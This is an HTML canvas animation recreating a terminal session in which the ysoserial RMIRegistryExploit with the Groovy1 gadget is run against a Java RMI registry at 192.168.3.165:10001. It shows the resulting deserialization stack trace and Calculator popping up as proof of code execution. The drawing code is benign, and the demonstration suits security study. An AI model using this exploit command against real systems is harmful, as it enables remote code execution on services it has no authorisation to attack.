
Animation of 640x400 px, one loop 7.2 s. Source, as an HTML page with a canvas:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
canvas { display: block; }
</style>
</head>
<body>
<canvas width="640" height="400"></canvas>
<script>
const ctx = document.querySelector('canvas').getContext('2d');
const SANS = '"Open Sans", "Noto Sans CJK SC", "Noto Sans CJK", sans-serif';
const MONO = '"DejaVu Sans Mono", "Noto Sans CJK SC", monospace';
const LOOP = 7200, CELL = 3.06, ROW = 6.14;

const STEPS = [
  { at: 0, screen: 'typed', tab: 'cmd.exe' },
  { at: 1800, screen: 'entered', tab: 'java.exe' },
  { at: 2400, screen: 'trace', tab: 'java.exe' },
  { at: 2700, screen: 'trace', tab: 'cmd.exe', calc: true },
];

const PROMPT = 'C:\\Tools_win\\cmder_mini';
const COMMAND = 'λ java -cp ysoserial.jar ysoserial.exploit.RMIRegistryExploit 192.168.3.165 10001 Groovy1 calc.exe';
const socket = (local, remote) =>
  '  TCP    ' + local.padEnd(23) + remote.padEnd(23) + 'LISTENING       InHost';
const netstat = ['λ netstat -ant | find "10001"', socket('0.0.0.0:10001', '0.0.0.0:0'), socket('[::]:10001', '[::]:0'), ''];
const entry = (stamp, name, size) =>
  stamp + (size ? size.padStart(18) : '    <DIR>').padEnd(19) + name;
const MARCH = '2020/03/14  16:18', JULY = '2019/07/16  15:13';
const listing = [
  ...netstat, PROMPT, ...netstat, PROMPT, 'λ dir',
  ' 驱动器 C 中的卷没有标签。', ' 卷的序列号是 4011-640B', '', ' ' + PROMPT + ' 的目录', '',
  entry(MARCH, '.'), entry(MARCH, '..'), entry(JULY, 'bin'), entry(JULY, 'Cmder.exe', '140,288'),
  entry('2019/07/16  15:32', 'config'), entry(JULY, 'icons'), entry(JULY, 'LICENSE', '1,069'),
  entry(JULY, 'vendor'), entry(JULY, 'Version 1.3.11.843', '0'),
  ' '.repeat(15) + '3 个文件        141,357 字节',
  ' '.repeat(15) + '6 个目录 14,483,738,624 可用字节',
  '', PROMPT, COMMAND,
];

const TCP = 'sun.rmi.transport.tcp.TCPTransport';
const POOL = 'java.util.concurrent.ThreadPoolExecutor';
const EXPLOIT = 'ysoserial.exploit.RMIRegistryExploit';
const UNKNOWN = '(Unknown Source)';
const NATIVE = 'java.security.AccessController.doPrivileged(Native Method)';
const tcp = (method, line) => `${TCP}$ConnectionHandler${method}(TCPTransport.java:${line})`;
const exploit = (method, line) => `${EXPLOIT}${method}(RMIRegistryExploit.java:${line})`;
const trace = [
  'java.io.ObjectInputStream.readObject(ObjectInputStream.java:370)',
  'sun.rmi.registry.RegistryImpl_Skel.dispatch' + UNKNOWN,
  'sun.rmi.server.UnicastServerRef.oldDispatch(UnicastServerRef.java:409)',
  'sun.rmi.server.UnicastServerRef.dispatch(UnicastServerRef.java:267)',
  'sun.rmi.transport.Transport$2.run(Transport.java:202)',
  'sun.rmi.transport.Transport$2.run(Transport.java:199)',
  NATIVE,
  'sun.rmi.transport.Transport.serviceCall(Transport.java:198)',
  TCP + '.handleMessages(TCPTransport.java:567)',
  tcp('.run0', 828), tcp('.access$400', 619), tcp('$1.run', 684), tcp('$1.run', 681),
  NATIVE,
  tcp('.run', 681),
  POOL + '.runWorker(ThreadPoolExecutor.java:1145)',
  POOL + '$Worker.run(ThreadPoolExecutor.java:615)',
  'java.lang.Thread.run(Thread.java:745)',
  'sun.rmi.transport.StreamRemoteCall.exceptionReceivedFromServer' + UNKNOWN,
  'sun.rmi.transport.StreamRemoteCall.executeCall' + UNKNOWN,
  'sun.rmi.server.UnicastRef.invoke' + UNKNOWN,
  'sun.rmi.registry.RegistryImpl_Stub.bind' + UNKNOWN,
  exploit('$1.call', 44), exploit('$1.call', 38),
  'ysoserial.secmgr.ExecCheckingSecurityManager.callWrapped(ExecCheckingSecurityManager.java:72)',
  exploit('.exploit', 38), exploit('.main', 32),
].map(call => '        at ' + call);

const SCREENS = {
  typed: listing,
  entered: [...listing.slice(1), ''],
  trace: [...trace, '', PROMPT, 'λ '],
};

function rect(x, y, w, h, fill, stroke, radius = 0) {
  ctx.beginPath();
  ctx.roundRect(x, y, w, h, radius);
  if (fill) { ctx.fillStyle = fill; ctx.fill(); }
  if (stroke) { ctx.strokeStyle = stroke; ctx.lineWidth = 0.7; ctx.stroke(); }
}
function disc(x, y, r, fill) {
  rect(x - r, y - r, 2 * r, 2 * r, fill, null, r);
}
function fade(x0, y0, x1, y1, ...colors) {
  const g = ctx.createLinearGradient(x0, y0, x1, y1);
  colors.forEach((c, i) => g.addColorStop(i / (colors.length - 1), c));
  return g;
}
function path(d, fill, stroke, width = 1) {
  const p = new Path2D(d);
  if (fill) { ctx.fillStyle = fill; ctx.fill(p); }
  if (stroke) { ctx.strokeStyle = stroke; ctx.lineWidth = width; ctx.stroke(p); }
}
function label(text, x, y, size, color, align = 'left', family = SANS, style = '') {
  ctx.font = `${style} ${size}px ${family}`;
  ctx.textAlign = align;
  ctx.fillStyle = color;
  ctx.fillText(text, x, y);
}

function glow(x, y, radius, rgb, alpha) {
  const g = ctx.createRadialGradient(x, y, 0, x, y, radius);
  g.addColorStop(0, `rgba(${rgb},${alpha})`);
  g.addColorStop(0.5, `rgba(${rgb},${alpha * 0.5})`);
  g.addColorStop(1, `rgba(${rgb},0)`);
  ctx.fillStyle = g;
  ctx.fillRect(0, 43, 640, 315);
}
function sparkle(x, y, r) {
  path(`M${x - r} ${y}H${x + r}M${x} ${y - r}V${y + r}`, null, '#f4fbe8', 1.3);
  rect(x - 1.2, y - 1.2, 2.4, 2.4, '#fff');
}

function drawDesktop() {
  rect(0, 0, 640, 400, '#fff');
  ctx.save();
  ctx.beginPath();
  ctx.rect(0, 43, 640, 315);
  ctx.clip();
  rect(0, 43, 640, 315, fade(0, 43, 640, 200, '#0843b4', '#0b68da', '#0b5cd2'));
  glow(270, 280, 340, '28,155,248', 0.75);
  glow(70, 330, 230, '105,240,255', 1);
  path('M0 268Q75 292 152 358', null, 'rgba(215,250,255,.5)', 1.5);
  path('M0 304Q60 320 104 358', null, 'rgba(215,250,255,.3)', 1.5);
  path('M95 358Q145 326 205 290', null, 'rgba(190,240,255,.2)', 1.5);
  path('M540 358Q590 344 640 312', null, 'rgba(90,175,245,.2)', 1.2);
  disc(80, 303, 15, 'rgba(200,250,255,.18)');
  for (let i = 0; i < 26; i++) {
    const r = 1.4 * Math.sqrt(i);
    rect(141.5 + r * Math.cos(i * 2.4), 350 + r * Math.sin(i * 2.4), 1.2, 1.2, i % 2 ? '#c2cf3c' : '#86b45a');
  }
  path('M130 354L152 352L190 352', null, 'rgba(125,185,85,.65)', 0.8);
  disc(331, 279, 37, '#ecdc1c');
  sparkle(331, 319, 6);
  sparkle(307, 310, 4.5);
  ctx.restore();
}

function drawLine(text, row) {
  const y = 94 + row * ROW;
  const color = text === PROMPT ? '#79b829' : '#c3c6ba';
  let col = 0;
  for (const [run] of text.matchAll(/[\u3000-\u9fff]| +|[^ \u3000-\u9fff]+/g)) {
    const wide = run >= '\u3000';
    if (run[0] !== ' ') label(run, 99 + col * CELL, y, wide ? 5.8 : 5.1, color, 'left', MONO);
    col += wide ? 2 : run.length;
  }
  return 99 + col * CELL;
}

function captionButtons(x, y, widths, height, active) {
  widths.forEach((w, i) => {
    const close = i === 2;
    const fill = close && active
      ? fade(0, y, 0, y + height, '#e2a08f', '#c4452f', '#d27a60')
      : fade(0, y, 0, y + height, '#e3eef9', '#b5cce4');
    rect(x, y, w, height, fill, '#7188a3', 1);
    const cx = x + w / 2, cy = y + height / 2;
    const mark = [`M${cx - 1.7} ${cy + 1}h3.4`, `M${cx - 1.5} ${cy - 1.3}h3v2.6h-3z`,
      `M${cx - 1.4} ${cy - 1.4}l2.8 2.8m0 -2.8l-2.8 2.8`][i];
    path(mark, null, close && active ? '#fff' : '#65768a', 0.8);
    x += w;
  });
}

function drawStatusBar(tab) {
  rect(96, 278, 444, 10, fade(0, 278, 0, 288, '#eef4fb', '#d4e1f0'));
  rect(97, 278.5, 33, 9, '#fbfdff', '#a8b8c8', 1);
  rect(99, 280, 6.5, 6.5, '#77ad22');
  label(tab, 109, 283.2, 5.1, '#222');
  rect(439.5, 279.5, 46, 7.5, '#fff', '#9aabba');
  label('Search', 441, 283.2, 5, '#777', 'left', SANS, 'italic');
  path('M480.5 285l1.7-1.7', null, '#555', 0.8);
  ctx.beginPath();
  ctx.arc(483, 282.2, 1.3, 0, 7);
  ctx.stroke();
  rect(487.5, 280, 6, 6, '#36a13c', '#23792a', 1);
  path('M488.8 283h3.4M490.5 281.3v3.4', null, '#fff', 1);
  rect(502.5, 280.2, 5.5, 5.5, '#a9cdf0', '#5586b8');
  for (const x of [495.5, 510.5]) path(`M${x} 282h3.4l-1.7 2z`, '#333');
  path('M517.5 283v-1.2a1.5 1.5 0 0 1 3 0v1.2', null, '#8b7634', 0.8);
  rect(516.5, 282.5, 5, 3.5, '#e5b72c');
  rect(524.5, 280, 5.5, 6, '#f8fbff', '#566779');
  path('M533 281h4.5M533 283h4.5M533 285h4.5', null, '#74889e', 0.8);
}

function drawTerminal({ screen, tab, calc }) {
  const active = !calc;
  rect(93.4, 77.4, 448.2, 212.8,
    active ? fade(93, 77, 542, 90, '#c2d9ef', '#9fc5e9', '#c5dcf1') : fade(93, 77, 542, 90, '#dae7f3', '#cbdff1', '#dce9f5'),
    '#31475d', 2);
  rect(94.2, 78.2, 446.6, 211.2, null, 'rgba(255,255,255,.7)', 1.5);
  rect(96.5, 80.5, 6.5, 6.5, '#77ad22');
  label('Cmder', 104.5, 83.7, 5.4, active ? '#17212c' : '#526170');
  captionButtons(502, 80, [11.5, 12, 13.5], 7, active);

  ctx.save();
  ctx.beginPath();
  ctx.rect(96, 88, 444, 190);
  ctx.clip();
  drawDesktop();
  rect(96, 88, 444, 190, active ? 'rgba(39,41,34,.975)' : 'rgba(36,38,32,.94)');
  ctx.globalAlpha = active ? 0.92 : 0.68;
  let end = 99;
  SCREENS[screen].forEach((text, row) => { end = drawLine(text, row); });
  ctx.globalAlpha = 1;
  const y = 94 + 29 * ROW - 3;
  if (calc) rect(end, y, 3, 5.8, '#c7cbc3');
  else rect(end, y, 1, 5.8, '#e2e4dc');
  ctx.restore();
  drawStatusBar(tab);
}

const KEYS = [
  ['MC', 'MR', 'MS', 'M+', 'M-'], ['←', 'CE', 'C', '±', '√'], ['7', '8', '9', '/', '%'],
  ['4', '5', '6', '*', '1/x'], ['1', '2', '3', '-', '='], ['0', '', '.', '+', ''],
];

function drawCalculator() {
  ctx.save();
  ctx.shadowColor = 'rgba(0,0,0,.55)';
  ctx.shadowBlur = 5;
  rect(158.4, 195.4, 86.4, 123.4, '#a9c4df', null, 2.5);
  ctx.restore();
  rect(158.4, 195.4, 86.4, 123.4, fade(158, 195, 245, 215, '#d0e0f0', '#9db9d6', '#b4cfe9'), '#2e435a', 2.5);
  rect(159.2, 196.2, 84.8, 121.8, null, 'rgba(255,255,255,.65)', 2);
  rect(162.5, 199, 5, 6.5, '#e6f1fb', '#6a8eb3', 0.7);
  label('计算器', 169.5, 202, 5.3, '#111');
  captionButtons(204, 198.5, [12, 12, 14], 7.3, true);
  rect(161, 207, 81.5, 109, '#dae5f2', '#7f94aa');
  rect(161.3, 207.3, 81, 8, fade(0, 207, 0, 215, '#fafcfe', '#dfe7f3'));
  ['查看(V)', '编辑(E)', '帮助(H)'].forEach((menu, i) => label(menu, 164 + i * 20.3, 211, 4.9, '#111'));
  rect(165.5, 219, 73.5, 18, fade(0, 219, 0, 237, '#fff', '#e9f1fb'), '#8e9fb4', 1.5);
  label('0', 236.5, 230.2, 9, '#111', 'right', MONO);

  KEYS.forEach((keys, row) => keys.forEach((key, col) => {
    if (!key) return;
    const x = 165.6 + col * 14.9, y = 239.5 + row * 12.4;
    const w = key === '0' ? 27.9 : 13, h = key === '=' ? 22 : 9.6;
    const digit = /[0-9.]$/.test(key);
    rect(x, y, w, h, digit ? fade(0, y, 0, y + h, '#fafcff', '#e2ebf5') : fade(0, y, 0, y + h, '#e9f0f8', '#c9d8e9'), '#93a7be', 1);
    const size = digit ? 6.3 : /[=←]/.test(key) ? 7.5 : row === 0 ? 4.6 : 5;
    label(key, x + w / 2, y + h / 2 + 0.2, size, '#26384d', 'center');
  }));
}

function drawPointer() {
  path('M445.6 214v6.8l1.6-1.4 1.1 2.4 1.2-.6-1.1-2.3h2.1z', '#fff', '#222', 0.5);
}

function render(step) {
  ctx.textBaseline = 'middle';
  ctx.textRendering = 'geometricPrecision';
  drawDesktop();
  drawTerminal(step);
  if (step.calc) drawCalculator();
  drawPointer();
}

let shown;
const start = performance.now();
function tick() {
  const time = (performance.now() - start) % LOOP;
  const step = STEPS.findLast(s => s.at <= time);
  if (step !== shown) render(shown = step);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
